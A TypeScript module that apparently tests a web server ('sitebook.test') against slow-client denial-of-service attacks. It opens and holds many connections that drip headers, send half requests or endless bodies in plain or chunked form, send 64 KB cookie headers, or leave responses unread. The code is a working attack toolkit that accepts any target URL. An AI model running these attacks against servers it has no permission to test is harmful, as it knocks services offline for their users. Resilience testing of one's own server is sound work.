import { connect, type Socket } from "node:net";
import type { Count } from "./count.ts";

type Stop = () => void;
export type Attack = (target: URL, count: Count) => Stop;

/** How often a slow client does the little it does, and how soon it comes again once it was sent away; milliseconds. */
const beat = 100;

/** Keeps so many connections open, each doing its part at every beat, and opens others for those that end: a tenth a beat. */
function hold(connections: number, begin: (socket: Socket) => void, each: (socket: Socket) => void): Attack {
  return (target, count) => {
    const open = new Set<Socket>();
    const missing = () => {
      const wanted = Math.min(connections, open.size + Math.ceil(connections / 10));
      while (open.size < wanted) open.add(opened(target, count, begin, (one) => open.delete(one)));
    };
    const beating = setInterval(() => {
      for (const socket of open) if (socket.writable) each(socket);
      missing();
    }, beat);
    missing();
    return () => {
      clearInterval(beating);
      for (const socket of open) socket.destroy();
    };
  };
}

function opened(target: URL, count: Count, begin: (socket: Socket) => void, gone: (socket: Socket) => void): Socket {
  const socket = connect(Number(target.port), target.hostname);
  let received = "";
  begin(socket);
  socket.on("data", (bytes) => {
    if (received.length < 2000) received += bytes.toString("latin1");
  });
  socket.on("error", () => undefined);
  socket.on("close", () => {
    count.ended(received);
    gone(socket);
  });
  return socket;
}

const head = (line: string, ...more: string[]) =>
  `${[`${line} HTTP/1.1`, "Host: sitebook.test", ...more].join("\r\n")}\r\n`;
const form = ["Content-Type: application/x-www-form-urlencoded", "Origin: http://sitebook.test"];
const posted = (...more: string[]) => `${head("POST /sign-in", ...form, ...more)}\r\n`;
const nothing = () => undefined;

/** What is still unsent is enough: more would fill this process's memory, not the server's. */
const pour = (bytes: Buffer) => (socket: Socket) => {
  while (socket.writableLength < bytes.length) socket.write(bytes);
};
const piece = Buffer.alloc(64 * 1024, "x");
const chunk = Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from("\r\n")]);
const asked = Buffer.from(`${head("GET /openapi.json")}\r\n`.repeat(4));

export const onConnections: Record<string, Attack> = {
  "heads that drip in": hold(
    200,
    (socket) => socket.write(head("GET /sign-in")),
    (socket) => socket.write("X-A: b\r\n"),
  ),
  "half-sent requests": hold(200, (socket) => socket.write(head("GET /sign-in")), nothing),
  "1,000 idle connections": hold(1000, nothing, nothing),
  "bodies that drip in": hold(
    200,
    (socket) => socket.write(posted("Content-Length: 60000")),
    (socket) => socket.write("x"),
  ),
  "bodies in chunks that drip in": hold(
    200,
    (socket) => socket.write(posted("Transfer-Encoding: chunked")),
    (socket) => socket.write("1\r\nx\r\n"),
  ),
  "answers that nobody reads": hold(
    5,
    (socket) => socket.pause(),
    (socket) => socket.write(asked),
  ),
  "answers that are read drop by drop": hold(
    5,
    (socket) => socket.pause(),
    (socket) => {
      socket.write(asked);
      socket.read(1);
    },
  ),
  "heads of 64 KB": hold(
    5,
    (socket) => socket.write(`${head("GET /sign-in", `Cookie: a=${piece.toString()}`)}\r\n`),
    nothing,
  ),
  "a body that never ends": hold(3, (socket) => socket.write(posted("Content-Length: 1000000000000")), pour(piece)),
  "a body in chunks that never ends": hold(
    3,
    (socket) => socket.write(posted("Transfer-Encoding: chunked")),
    pour(chunk),
  ),
};
